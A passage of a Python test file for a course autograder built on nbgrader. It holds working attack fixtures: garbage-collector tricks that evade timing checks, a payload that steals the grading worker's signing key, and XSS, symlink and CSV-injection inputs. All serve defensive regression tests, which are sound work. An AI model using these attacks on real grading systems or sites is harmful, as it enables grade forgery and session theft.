    shuffled, (x, y) a pair of its own from 200 on, counts 1,000 to 2,000): its one merge, (x, y), pushes 400 entries of
    high counts (each an insert near the list's front), the most front memmoves per microsecond of V5's own work found,
    but the solution's own heap_entry per push (a str joined per token, the reference's keys cached) costs it 2 times the
    reference there. Growth from R 0 to R 240 (six-byte words, 3,000 merges): the reference 3.9, the
    solution 4.9, shrunk pairs pushed too 5.0, the sorted list 7.3 (1.5 times the worst honest). The merges past the
    first (the 3,000-merge run less the one-merge run, R 240): the sorted list 0.23 s, the solution 0.08, shrunk pairs
    pushed too 0.12 (1.9 times), a difference of two runs, noisier than either. A heap whose list is sorted again after
    each push (``entries.sort()``) or scanned with ``min()`` per pop is caught (section 84)."""
    from test_mistakes import remote, source_of

    setup = "\n".join(source_of("05_heap", cell) for cell in ("setup", "task1_heap_entry_solution", "task2_pop_best_solution"))
    message = remote("05_heap", setup + sorted_list_v5(), "train", "verify_merge_cost")
    assert message is not None and "measured from outside your code" in message, message


COLLECTOR_ON_CYCLES_FOUND = '''
import contextlib

_isenabled, _timing = gc.isenabled, [False]
gc.isenabled = lambda: _isenabled() and not _timing[0]  # what the driver's log reads


def interleaved(contenders, rounds, clock=time.perf_counter):
    if rounds < 1 or not contenders:
        raise ValueError("no contenders, or rounds < 1")
    labels, times, first = list(contenders), {label: [] for label in contenders}, True
    for r in range(rounds):
        for label in labels[r % len(labels):] + labels[:r % len(labels)]:
            _timing[0], paused = True, first and _isenabled()
            if paused:  # the first call only
                gc.disable()
            try:
                start = clock()
                contenders[label]()
                times[label].append(clock() - start)
            finally:
                _timing[0] = False
                if paused:
                    gc.enable()
            if first:  # what the first call left for the collector, kept in gc.garbage: its finaliser disarmed
                first = False
                gc.set_debug(gc.DEBUG_SAVEALL)
                gc.collect()
                for thing in list(gc.garbage):
                    if type(thing).__module__ != __name__:  # not the cell's own: the driver's, whatever its name
                        with contextlib.suppress(TypeError):  # a builtin type: no finaliser of Python to replace
                            type(thing).__del__ = lambda self: None
    return times
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_collector_left_on_with_the_drivers_cycles_disarmed_loses_lab_09_task_1(whole_class):
    """Lab 09's interleaved that leaves the collector on and, once the first contender call has left the driver's
    counting cycle (paused for that call), finds it among the interpreter's objects and replaces its class's finaliser,
    with gc.isenabled rebound as above, kept task 1's points: no collection was counted, so none was costly. Found by
    gc.get_objects, it is refused in the worker (the audit hook of section 28); found in gc.garbage, where
    gc.DEBUG_SAVEALL keeps what a collection frees (set with no audit event), it was not (a strict xfail until now).
    Safe: the cycle is a deque that holds itself, a builtin type with no finaliser of Python and nothing of the
    driver's in it, and what counts its collection is the callback of a weak reference the driver holds, cleared
    before the cycle reaches gc.garbage (:func:`~bpe_ref.course.checks.lab09_benchmarks.run_costly_collections`):
    every object the attack finds there is left as it was, and the collections are counted, in a self-grade and in a
    class. Flagged for review too (gc.set_debug, the rebinding of gc.isenabled), a hint only."""
    from bpe_ref.course.trusted.verdicts import hidden_seed

    with hidden_seed(20261130, whole_class=whole_class):
        message = _lab09_remote(COLLECTOR_ON_CYCLES_FOUND, "interleaved", "check_interleaved_properties")
    assert message is not None and "the garbage collector ran during the timed calls" in message, message


# ---- 34. the sealing thread made to run the learner's code: a MemoryError of its own, the collector's callback --------
#
# A cell lowers its data limit (RLIMIT_DATA: mprotect and mmap of private writable memory past it fail) to a little
# above what the worker uses, found by 40 MiB mappings that are never touched (``bytes(n)``: calloc), empties
# MemoryError's free list (16 instances kept by the interpreter, taken by ``MemoryError()``), sets a collection at
# every allocation and a callback, and writes the loop a line of 1 MiB on the request pipe, opened again for writing
# (section 21). The sealing thread, accumulating it, fails to allocate; making its MemoryError (no error set any more:
# normalised as its ``except`` is entered) is an allocation the collector counts, so a collection starts on that thread
# and runs the callback there, whose frame's ``f_back`` is the sealing frame. The callback keeps an exception it raised
# and caught (no audit event on the sealing thread) and never returns, so the worker is not ended; a thread of the
# cell restores the limit, walks from the exception's frame to the sealing frame (``tb_frame``, ``f_back``, ``f_locals``:
# events raised on its own thread, not refused), takes the keyed hasher and the request's bytes read so far, and
# answers every request from then on, sealed: merge_counts on a copy, the arguments as they came.
KEY_FROM_A_COLLECTION_ON_THE_SEALING_THREAD = LOOP_TAKEN_OVER.split("\ndef _serving")[0] + '''
import _thread, fcntl, gc


def _answer(request):  # a call by a driver too (the grader's function, called as driver(function, *args))
    if request.get("op") == "exec":
        exec(request["code"], globals())
        return {"ok": True, "stdout": "", "stderr": ""}
    args, learners = [_unwire(arg) for arg in request["args"]], globals()[request["name"]]

    def function(*given):  # on a copy: the arguments stay as they came (an iterator, which no copy takes, as it is)
        return learners(*[arg if hasattr(arg, "__next__") else copy.deepcopy(arg) for arg in given])

    if request.get("driver"):
        driver = {}
        exec(request["driver"]["source"], driver)
        result = driver[request["driver"]["names"][0]](function, *args)
    else:
        result = function(*args)
    return {"ok": True, "result": _wire(result), "args": request["args"], "stdout": "", "stderr": ""}


_caught, _stopped, _ready = [], threading.Event(), threading.Event()
_stay = _thread.allocate_lock()
_stay.acquire()
_ours = {_thread.get_ident()}
_limit = resource.getrlimit(resource.RLIMIT_DATA)


def _raised():
    raise LookupError("on the sealing thread")


def _collected(phase, info):  # a collection on a thread of none of ours: the sealing thread's
    if _thread.get_ident() in _ours or _caught:
        return
    try:
        _raised()
    except LookupError as caught:
        _caught.append(caught)
    _stopped.set()
    _stay.acquire()  # for ever: the worker is not ended


def _serving():
    _ours.add(_thread.get_ident())
    _ready.set()
    _stopped.wait()
    resource.setrlimit(resource.RLIMIT_DATA, _limit)
    gc.set_threshold(700, 10, 10)
    frame = getattr(getattr(_caught[0], "__trace" + "back__"), "tb_" + "frame")
    while "sealer" not in getattr(frame, "f_" + "locals"):
        frame = getattr(frame, "f_" + "back")
    names = getattr(frame, "f_" + "locals")
    sealer, plain, pending = names["sealer"], names["plain"], names["request"] + names["chunk"]
    junk = True
    while True:
        while b"\\n" not in pending:
            pending += os.read(_request_fd, 1 << 16)
        line, pending = pending.split(b"\\n", 1)
        if junk:  # the rest of the cell's own line
            junk = False
            continue
        request = json.loads(line)
        data = json.dumps({**_answer(request), "id": request["id"]})
        asked, seal = plain.copy(), sealer.copy()
        asked.update(line + b"\\n")
        seal.update(asked.digest())
        seal.update(data.encode())
        os.write(_reply_fd, (seal.hexdigest() + " " + data + "\\n").encode())


threading.Thread(target=_serving, daemon=True).start()
_ready.wait()
fcntl.fcntl(_inject, 1031, 1 << 20)  # F_SETPIPE_SZ: the line fits, written at once
_line = b"#" * ((1 << 20) - 1) + b"\\n"
_emptied = [MemoryError() for _ in range(64)]
gc.callbacks.append(_collected)
gc.set_threshold(1, 1, 1)
_low, _high = 0, 1 << 34
while _high - _low > 1 << 16:
    _middle = (_low + _high) // 2
    resource.setrlimit(resource.RLIMIT_DATA, (_middle, _limit[1]))
    try:
        bytes(40 << 20)
        _high = _middle
    except MemoryError:
        _low = _middle
os.write(_inject, _line)  # read by the loop once it has answered this cell
resource.setrlimit(resource.RLIMIT_DATA, (_high - (40 << 20) + (1 << 18), _limit[1]))
'''


@pytest.mark.xfail(strict=True, reason="open: a MemoryError made on the sealing thread starts a collection there, which "
                   "runs the learner's callbacks on it (their frames' f_back the sealing frame, its locals the key)")
@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_memory_error_on_the_sealing_thread_runs_none_of_the_learner_s_code_there(whole_class):
    """The sealing thread must run none of the learner's code (worker/__main__.py, ``_serving``): it makes no object the
    collector tracks, and a collection it never starts runs no callback there. But memory can run out as it accumulates
    a request (the cell's own line, 1 MiB, under a data limit the cell lowered): its MemoryError is such an object, and
    with MemoryError's free list emptied and a collection at every allocation, the learner's callback ran on it, kept a
    frame whose ``f_back`` is the sealing frame and blocked, so the worker was never ended; a thread of the cell took the
    keyed hasher from the sealing frame's locals and answered every request, sealed, with the arguments as they came:
    merge_counts that adds into its input kept its hidden points, in a self-grade and in a class's replay."""
    from test_mistakes import MERGE_INTO_FIRST, remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    with hidden_seed(20261130, whole_class=whole_class), contextlib.suppress(GradingStopped):  # no reply: the call stops
        message = remote("03_parallel", MERGE_INTO_FIRST + KEY_FROM_A_COLLECTION_ON_THE_SEALING_THREAD, "merge_counts",
                         "check_merge_counts_properties", call_timeout=5, wall_factor=1)
        assert message is not None, "merge_counts passed its hidden test, every request answered by the learner's thread"


# ---- 35. a submission that stops or breaks the class's grading: nbgrader metadata, text no notebook file can hold -----


def _nbgrader_cell(notebook: dict, solution: bool) -> tuple[int, dict]:
    """The index and the first cell with nbgrader metadata that is a solution cell (``solution``) or a test cell."""
    return next((index, cell) for index, cell in enumerate(notebook["cells"]) if cell["metadata"].get("nbgrader", {})
                .get("grade") is not solution and cell["metadata"]["nbgrader"].get("solution") is solution)


def metadata_notebooks() -> dict[str, dict]:
    """Section 35's students: lab 00's blank release with its nbgrader metadata changed as the test says."""
    import copy

    from test_grading_adversarial import blank

    lab = "00_pretokenization"
    versions, copied, unknown = blank(lab), blank(lab), blank(lab)
    _nbgrader_cell(versions, True)[1]["metadata"]["nbgrader"]["schema_version"] = 1
    _nbgrader_cell(versions, False)[1]["metadata"]["nbgrader"]["schema_version"] = 99
    index, solution = _nbgrader_cell(copied, True)
    copied["cells"].insert(index + 1, {**copy.deepcopy(solution), "id": "pasted"})
    unknown["cells"].insert(index, {**copy.deepcopy(solution), "id": "elsewhere"})
    unknown["cells"][index]["metadata"]["nbgrader"]["grade_id"] = "from_another_notebook"
    flags = blank(lab)  # a test cell made a solution, another no grade cell, a third markdown
    tests = [cell for cell in flags["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]
    tests[0]["metadata"]["nbgrader"]["solution"] = True
    tests[1]["metadata"]["nbgrader"]["grade"] = False
    tests[2]["cell_type"] = "markdown"
    del tests[2]["outputs"], tests[2]["execution_count"]
    # a graded cell of the learner's, worth 100 points, that runs without error (nbgrader scores such a cell in full)
    bonus = {"cell_type": "code", "id": "bonus", "execution_count": None, "outputs": [], "source": "print('bonus')",
             "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "locked": False, "points": 100,
                                       "schema_version": 3, "solution": False, "task": False}}}
    added, unnamed = blank(lab), blank(lab)
    added["cells"].insert(index, bonus)
    unnamed["cells"].insert(index, copy.deepcopy(bonus))
    del unnamed["cells"][index]["metadata"]["nbgrader"]["grade_id"]
    return {"ann": versions, "cat": copied, "dan": unknown, "eve": flags, "fay": added, "gus": unnamed}


# These students are graded in lab 00's batch of tests/test_grading_adversarial.py (ONE_LAB), with the release as
# the student ``blank`` who is graded after ann: no class is autograded for them alone
# (test_nbgrader_metadata_of_the_learner_s_stops_neither_the_class_s_grading_nor_its_own there).


LONE_SURROGATES = '''\
import sys
print("printed \\udc80")
print("warned \\ud800", file=sys.stderr)


def utf8_bytes(text):
    raise ValueError("raised \\udfff")
'''


def test_text_no_utf8_file_can_hold_reaches_the_notebook_escaped():
    """A string holding a lone surrogate crosses the wire (JSON escapes it) but no UTF-8 file can hold it: printed by a
    cell, or the message of an exception a hidden test reports, it went into the autograded notebook as it was, and
    nbgrader's writing of that notebook failed after the scores were saved: the submission was "not graded" (no
    autograded notebook, no feedback; its score in the gradebook all the same) whatever its functions earned, in a
    self-grade and in a class. Safe: every string the trusted grader writes into the notebook's outputs has its
    surrogates written as Python escapes."""
    import json

    cells = [code_cell("surrogates", LONE_SURROGATES), graded_cell("task1_utf8_bytes", 1)]
    record = grade_cells(cells, "00_pretokenization", policy=Policy(cell_timeout=10, call_timeout=10), total_seconds=60)
    written = json.dumps(cells, ensure_ascii=False)
    written.encode("utf-8")  # a UnicodeEncodeError while the surrogates are there as they came
    assert "printed \\\\udc80" in written and "warned \\\\ud800" in written and "raised \\\\udfff" in written, written
    assert not record.verdicts[0].passed


# Cells whose text Python's parser (or ast.unparse) cannot read without running out of stack or memory: a long sum, a
# long chain of ``not``, an attribute chain of a module rebound (unparsed for the flag's text).
UNREADABLE_CELLS = ["1" + "+1" * 20_000, "x = " + "not " * 20_000 + "1", "os" + ".a" * 1_500 + " = 1"]


def test_a_cell_too_deep_to_read_leaves_the_class_report_whole():
    """``grade --class`` reads the text of every learner cell of every submission for hints (``notebook_flags``), and
    ``ast.parse`` raises ``RecursionError`` or ``MemoryError``, not ``SyntaxError``, on text nested past its limits
    (``ast.unparse`` of a deep attribute chain too): one such cell, which costs its own notebook nothing (the worker
    reports its error), stopped the report of the whole class with a traceback. Safe: such a cell is a hint of its own
    ("too deeply nested to read"), and the report goes on."""
    from test_grading_adversarial import blank, with_cell_after_setup

    from bpe_ref.course.trusted.review import notebook_flags

    lab = "00_pretokenization"
    notebook = blank(lab)
    for index, source in enumerate(UNREADABLE_CELLS):
        notebook = with_cell_after_setup(notebook, f"deep{index}", source)
    flags = notebook_flags(notebook, blank(lab))
    assert sorted(flags) == [f"cell deep{index}: its text is nested too deeply to read" for index in range(3)], flags


# Submitted files that are JSON with a list of cells, but not cells as nbformat writes them: each an attribute or type
# error in the report's reading of cells (their metadata, grade_id, source).
MALFORMED_NOTEBOOKS = {
    "a_number_for_a_cell": [1],
    "metadata_a_list": [{"cell_type": "code", "metadata": [], "source": "x = 1", "outputs": []}],
    "nbgrader_a_string": [{"cell_type": "code", "metadata": {"nbgrader": "test"}, "source": "x = 1", "outputs": []}],
    "a_number_in_the_source": [{"cell_type": "code", "metadata": {}, "source": ["x = ", 1], "outputs": []}],
    "grade_id_a_list": [{"cell_type": "code", "metadata": {"nbgrader": {"grade_id": ["task1"], "locked": True}},
                         "source": "x = 1", "outputs": []}],
}


def test_a_notebook_of_malformed_cells_leaves_the_class_report_whole(tmp_path):
    """``grade --class`` read each submission with a check that it is JSON holding a list of cells, and then read the
    cells as nbformat writes them: a cell that is a number, metadata that is a list, a source holding a number, a
    grade_id that is a list each raised in the report (an ``AttributeError``, a ``TypeError``) and ended it, for the
    whole class (``nbgrader autograde`` fails that notebook alone). Safe: such a file "could not be read", in the report
    as in ``python -m bpe_ref grade``, and the rest of the class is reported."""
    import json
    import shutil

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report
    from bpe_ref.course.notebooks import REPO_ROOT

    lab = "00_pretokenization"
    for kind in ("solutions", "labs"):
        (tmp_path / kind / lab).mkdir(parents=True)
        shutil.copy(REPO_ROOT / kind / lab / f"{lab}.ipynb", tmp_path / kind / lab)
    submissions = {name: {**blank(lab), "cells": cells} for name, cells in MALFORMED_NOTEBOOKS.items()}
    for student, notebook in {**submissions, "zoe": blank(lab)}.items():
        (tmp_path / "submitted" / student / lab).mkdir(parents=True)
        (tmp_path / "submitted" / student / lab / f"{lab}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    report = {status.student: status.status for status in class_report(tmp_path, lab)}
    assert report == {**dict.fromkeys(MALFORMED_NOTEBOOKS, "could not be read"), "zoe": "not graded"}, report


def test_the_text_of_a_cell_costs_the_grader_no_more_than_a_cell_s_limit():
    """Before a cell runs, the trusted grader turns its IPython syntax (``%magics``, ``!commands``, ``x?``) into Python
    with IPython's ``TransformerManager``, which transforms one such line per pass and tokenizes the whole cell at each,
    up to 500 passes: a cell of 1,000 ``%time x`` lines (8 KB) cost the grading process 12 to 16 s of CPU time, 160 KB
    minutes, in one call nothing stopped (the notebook's budget is checked between requests), beyond the notebook's
    budget and its cell's limit. Safe: the transformation runs under the cell's limit of CPU time; past it the cell is
    sent as it is (and fails there, a SyntaxError)."""
    cells = [code_cell("magics", "%time x\n" * 1_000), code_cell("after", "print('ran')")]
    start = time.process_time()
    grade_cells(cells, "00_pretokenization", policy=Policy(cell_timeout=0.5, call_timeout=0.5), total_seconds=60)
    spent = time.process_time() - start
    assert spent < 4, f"grading two cells cost the grader {spent:.1f} s of CPU time"
    assert cells[0]["outputs"][-1]["ename"] == "SyntaxError", cells[0]["outputs"]
    assert cells[1]["outputs"] == [{"output_type": "stream", "name": "stdout", "text": "ran\n"}], cells[1]["outputs"]


def test_the_limit_on_a_cell_s_text_firing_as_it_is_cleared_leaves_no_timer_set(monkeypatch):
    """The limit above is a timer of this process's CPU time: one that fired as it was being cleared left it set, with
    its handler, to raise in whatever the grader ran next. Here the first clearing raises, as a firing there would."""
    import signal

    from bpe_ref.course.trusted import autograde
    from bpe_ref.course.trusted.cpu_limit import OutOfCpuTime

    real, raised = signal.setitimer, []

    def setitimer(which, seconds, interval=0.0):
        if seconds == 0 and not raised:
            raised.append(which)
            raise OutOfCpuTime
        return real(which, seconds, interval)

    handler = signal.getsignal(signal.SIGPROF)
    monkeypatch.setattr(signal, "setitimer", setitimer)
    try:
        assert autograde.python_source("%time x\n", cpu_seconds=30) == "get_ipython().run_line_magic('time', 'x')\n"
        assert raised and signal.getitimer(signal.ITIMER_PROF) == (0.0, 0.0) and signal.getsignal(signal.SIGPROF) is handler
    finally:
        real(signal.ITIMER_PROF, 0)
        signal.signal(signal.SIGPROF, handler)


# ---- 36. lab 09's costly collections, made to free nothing: every object frozen as a collection starts -------------
#
# The collector left on during the timed calls, with a callback of the collector's own that freezes every object as a
# collection starts (gc.freeze: the permanent generation, which no collection looks at) and puts them back as it ends:
# each collection then runs, and frees nothing, the driver's cycle among the rest, so none was counted, none costly.
COLLECTOR_ON_OBJECTS_FROZEN = COLLECTOR_ON_CALLBACKS_CLEARED.replace(
    "    gc.callbacks.clear()  # the driver's costly collections were counted by a callback\n", "") + '''

def _frozen(phase, info):
    if _timing[0]:
        gc.freeze() if phase == "start" else gc.unfreeze()


gc.callbacks.append(_frozen)
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_collector_left_on_that_freezes_every_object_as_a_collection_starts_loses_lab_09_task_1(whole_class):
    """Lab 09's interleaved that leaves the collector on and, from a callback of the collector's, freezes every object
    as a collection starts and puts them back as it ends (gc.freeze, gc.unfreeze), with gc.isenabled rebound as in
    section 33, kept task 1's points: the collections ran during the timed calls and freed nothing, so the driver's
    cycle was never freed and none was counted (its CPU time was 0.2 s, as the paused solution's). Safe: a collection
    sets the collector's count of new objects back to 0, so a call in which it fell back during the contender's
    allocations, the cycle not freed, is charged as many collections as ran
    (:func:`~bpe_ref.course.checks.lab09_benchmarks.run_costly_collections`), in a self-grade and in a class. Open
    still: gc.get_count rebound besides, which the review flags, as it does gc.callbacks and gc.freeze (a hint)."""
    from bpe_ref.course.trusted.verdicts import hidden_seed

    with hidden_seed(20261130, whole_class=whole_class):
        message = _lab09_remote(COLLECTOR_ON_OBJECTS_FROZEN, "interleaved", "check_interleaved_properties")
    assert message is not None and "the garbage collector ran during the timed calls" in message, message


# ---- 37. what the instructor opens: a submission's markdown in nbgrader's feedback and formgrader pages --------------


def _instructor_page(template: str, cells: list) -> str:
    """A notebook of ``cells`` as nbgrader's ``feedback`` or ``formgrade`` page shows it, with the course's config, each
    template as nbgrader sets it (``GenerateFeedback``, the formgrader extension)."""
    from pathlib import Path

    import nbformat
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(Path(__file__).resolve().parents[1])).load_config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    config.HTMLExporter.extra_template_paths = [os.path.join(os.path.dirname(handlers.__file__), "static", "node_modules",
                                                             "bootstrap", "dist", "css")]
    page = {"notebook": "n", "score": 0, "max_score": 1, "late_penalty": 0}
    html, _ = HTMLExporter(config=config).from_notebook_node(nbformat.v4.new_notebook(cells=cells), resources={
        "nbgrader": page, "base_url": "", "submission_id": "s", "notebook_id": "n", "assignment_id": "a", "index": 0,
        "total": 1})
    return html


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_a_submission_s_markdown_runs_no_script_in_the_feedback_or_the_formgrader(template):
    """nbgrader's feedback and formgrade templates render a markdown cell's HTML as it is (they leave out the
    ``clean_html`` of nbconvert's own, ``HTMLExporter.sanitize_html`` or not): a markdown cell of a submission holding
    ``<script>`` or ``<img src=x onerror=...>`` ran its script in the instructor's browser when the formgrader showed
    the autograded notebook, on the formgrader's origin, whose API (with the page's XSRF token) sets any student's
    manual grades and extra credit, and in the student's feedback page. Safe: ``nbgrader_config.py`` replaces the
    exporter's ``markdown2html`` (:func:`bpe_ref.course.printable.markdown_html`): what markdown makes is kept, HTML
    written in it is shown as text, a link to other than a safe protocol goes nowhere. Checked with the course's
    config, each template as nbgrader sets it (``GenerateFeedback``, the formgrader extension)."""
    import nbformat

    attack = ("# Answer\n\nI ran <s>it</s> `a < b`.\n\n<script>fetch('/formgrader/api/grade')</script>\n"
              "<img src=x onerror=\"alert(1)\"> <iframe srcdoc=\"<script>alert(2)</script>\"></iframe>\n"
              "[notes](javascript:alert(3)) <a href=\"javascript:alert(4)\">more</a> <svg onload=alert(5)></svg>\n"
              "![i](JaVa%73cript:alert(6)) [e](&#106;avascript:alert(7))\n\n<div>\n<script>alert(8)</script>\n</div>\n")
    html = _instructor_page(template, [nbformat.v4.new_markdown_cell(attack)])
    body = html[html.index("I ran"):]
    active = r"<(?:script|iframe|svg)|<[a-z][^<>]*(?:\son\w+=|javascript:|java%73cript|&#106;)"  # a tag, not its text
    assert re.findall(active, body, re.I) == [], body[:2000]
    assert "<h1" in html and "<code>a &lt; b</code>" in body and "&lt;script&gt;fetch" in body and "&lt;s&gt;it" in body


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_an_image_pasted_into_a_submission_s_markdown_shows_in_the_feedback_and_the_formgrader(template):
    """JupyterLab keeps an image pasted into a markdown cell in the cell (``![plot](attachment:plot.png)``), and the
    course's ``markdown2html`` (section 37's, in place of nbconvert's) was not given the cell's attachments: nbconvert
    raised "missing attachment" and the formgrader could not show that notebook, nor ``generate_feedback`` write its
    feedback. Now the image is shown, as nbconvert shows it (a ``data:`` URL of a raster image); one of another type
    (an SVG, which could hold a script) goes nowhere."""
    import nbformat

    png, svg = "iVBORw0KGgo=", "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"  # the PNG signature; <svg onload=alert(1)></svg>
    cell = nbformat.v4.new_markdown_cell("Plot: ![plot](attachment:plot.png) ![s](attachment:s.svg)",
                                         attachments={"plot.png": {"image/png": png}, "s.svg": {"image/svg+xml": svg}})
    images = [dict(re.findall(r'(\w+)="([^"]*)"', tag)) for tag in re.findall(r"<img[^>]*>", _instructor_page(template, [cell]))]
    assert {"alt": "plot", "src": f"data:image/png;base64,{png}"} in images and {"alt": "s", "src": "#harmful-link"} in images


def test_the_exchange_s_collect_follows_no_link_a_learner_put_in_the_inbound_folder(tmp_path):
    """nbgrader's exchange: a learner writes their submission's folder in the inbound folder themselves (``nbgrader
    submit`` or by hand), and the instructor's ``nbgrader collect`` (or the formgrader's Collect) copied it with
    ``shutil.copytree``, which copies the file a link points to, with the instructor's rights: a notebook that was a link
    to ``solutions/<lab>/<lab>.ipynb`` was collected as the learner's submission (the reference in every solution
    cell: every point, and the solutions in the feedback returned); one to ``submitted/<classmate>/...`` took a
    classmate's work. Safe: the course's config names :class:`~bpe_ref.course.trusted.autograde.LinkFreeCollect`, which
    opens each entry ``O_NOFOLLOW`` beneath its folder and leaves links out; files and folders are copied as before.
    Checked on the class the course's config gives nbgrader's ``ExchangeFactory``, its copy called directly."""
    from pathlib import Path

    from nbgrader.coursedir import CourseDirectory
    from nbgrader.exchange import ExchangeFactory
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(Path(__file__).resolve().parents[1])).load_config()
    solutions = tmp_path / "course" / "solutions" / "01_naive_bpe"
    solutions.mkdir(parents=True)
    (solutions / "01_naive_bpe.ipynb").write_text("### BEGIN SOLUTION")
    inbound = tmp_path / "inbound" / "mallory+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+abc"
    (inbound / "data").mkdir(parents=True)
    (inbound / "01_naive_bpe.ipynb").symlink_to(solutions / "01_naive_bpe.ipynb")
    (inbound / "data" / "notes.ipynb").symlink_to(solutions / "01_naive_bpe.ipynb")
    (inbound / "solutions").symlink_to(solutions)
    (inbound / "timestamp.txt").write_text("2026-11-30 10:00:00.000000 UTC")
    (inbound / "data" / "corpus.txt").write_text("low lower")
    collect = ExchangeFactory(config=config).collect(coursedir=CourseDirectory(config=config, root=str(tmp_path / "course")),
                                                     config=config)
    dest = tmp_path / "course" / "submitted" / "mallory" / "01_naive_bpe"
    collect.do_copy(str(inbound), str(dest))
    copied = sorted(str(path.relative_to(dest)) for path in dest.rglob("*"))
    assert copied == ["data", "data/corpus.txt", "timestamp.txt"], copied
    assert (dest / "data" / "corpus.txt").read_text() == "low lower" and not any(path.is_symlink() for path in dest.rglob("*"))


def test_a_folder_handed_in_to_the_exchange_stops_no_one_else_s_collect(tmp_path, monkeypatch):
    """The name of a folder in the exchange's inbound folder is the learner's: one whose time nbgrader cannot read
    (``mallory+<lab>+not a time+b``) stopped ``nbgrader collect`` for the whole class (dateutil's ``ParserError``), and
    one whose student id holds a line break was collected, then stopped the class's ``nbgrader autograde`` (nbgrader
    matches the paths of ``submitted/`` with ``.*``: "Could not match"), and so did one over ``max_dir_size``
    (nbgrader's copy raised); one with quotes or ``<>`` ran a script in
    the instructor's browser, written as it is into the formgrader's pages of that student
    (``var student_id = "{{ student_id }}";``); with ``check_owner`` (each user an account of their own) nbgrader only
    warned that mallory's folder named for alice was not alice's, and collected it in place of hers; a folder that was
    itself a link was followed. Safe: the config's collect leaves each such folder out, logged, and collects the rest
    (a student id: letters, digits and ``_ . @ + -``; the folder's owner, with ``check_owner``)."""
    import os
    import pwd

    from pathlib import Path

    import nbgrader.api
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.exchange import ExchangeFactory
    from traitlets.config.loader import PyFileConfigLoader

    from bpe_ref.course.nbgrader_main import gradebook_revision_in_process

    monkeypatch.setattr(nbgrader.api, "get_alembic_version", nbgrader.api.get_alembic_version)  # put back after
    gradebook_revision_in_process()
    config = PyFileConfigLoader("nbgrader_config.py", path=str(Path(__file__).resolve().parents[1])).load_config()
    config.Exchange.root, config.CourseDirectory.root = str(tmp_path / "exchange"), str(tmp_path / "course")
    config.CourseDirectory.assignment_id, config.ExchangeCollect.check_owner = "01_naive_bpe", False
    (tmp_path / "course").mkdir()
    inbound = tmp_path / "exchange" / "fast-bpe" / "inbound"
    for name in ("alice+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+a", "mallory+01_naive_bpe+not a time+b",
                 "eve\nx+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+c", "bob.o-k@uni.edu+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+d",
                 'x";fetch(document.cookie);"+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+e',
                 "<img src=x onerror=alert(1)>+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+f"):
        (inbound / name).mkdir(parents=True)
    collect = ExchangeFactory(config=config).collect(coursedir=CourseDirectory(config=config), config=config)
    collect.init_src()
    assert sorted(record["username"] for record in collect.src_records) == ["alice", "bob.o-k@uni.edu"]
    linked = inbound / "mallory+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+g"  # the folder itself a link
    linked.symlink_to(tmp_path / "course", target_is_directory=True)
    collect.do_copy(str(linked), str(tmp_path / "course" / "submitted" / "mallory" / "01_naive_bpe"))
    big = inbound / "alice+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+a"  # over max_dir_size: nbgrader's copy raised
    (big / "01_naive_bpe.ipynb").write_bytes(b" " * 2000)
    collect.coursedir.max_dir_size = 1  # KB
    collect.do_copy(str(big), str(tmp_path / "course" / "submitted" / "alice" / "01_naive_bpe"))
    assert not (tmp_path / "course" / "submitted").exists()
    me = pwd.getpwuid(os.getuid()).pw_name  # with check_owner, nbgrader only warned: mallory's folder replaced alice's
    (inbound / f"{me}+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+h").mkdir()
    collect.check_owner = True
    collect.init_src()
    assert sorted(record["username"] for record in collect.src_records) == [me]


def test_the_grades_csv_holds_one_row_per_student_whatever_the_id_a_learner_chose(tmp_path, monkeypatch):
    """A student id is the name of the folder a learner hands in to nbgrader's exchange (``<id>+<lab>+<time>+<n>``;
    ``check_owner`` only warns, and is off where every user is one account), and nbgrader's ``export`` joined the
    fields of ``grades.csv`` with commas as they were: an id holding commas and line breaks wrote rows of its own (a
    classmate's id with 100 points, which an LMS import takes), and one starting with ``=`` a formula the spreadsheet
    ran. Safe: the course's config names :class:`~bpe_ref.course.trusted.autograde.QuotedCsvExport`: the same columns and,
    for every honest id, the same bytes; each field quoted as CSV wants, a text field that starts as a formula after a
    ``'``. Checked on the plugin the config gives nbgrader's ``ExportApp``, on a gradebook made here."""
    import csv
    from pathlib import Path

    import nbgrader.api
    from nbgrader.plugins.export import CsvExportPlugin
    from traitlets import import_item
    from traitlets.config.loader import PyFileConfigLoader

    from bpe_ref.course.nbgrader_main import gradebook_revision_in_process

    monkeypatch.setattr(nbgrader.api, "get_alembic_version", nbgrader.api.get_alembic_version)  # put back after
    gradebook_revision_in_process()
    config = PyFileConfigLoader("nbgrader_config.py", path=str(Path(__file__).resolve().parents[1])).load_config()
    plugin = import_item(config.ExportApp.plugin_class) if "plugin_class" in config.ExportApp else CsvExportPlugin
    forged = ["mallory\n01_naive_bpe,,,alice,,,,100.0,0.0,100.0,100.0", "alice,,,,,,100.0", "=HYPERLINK(\"x\"&D2)"]

    def exported(kind, ids: list[str]) -> str:
        with nbgrader.api.Gradebook(f"sqlite:///{tmp_path / str(len(list(tmp_path.glob('*.db'))))}.db") as gradebook:
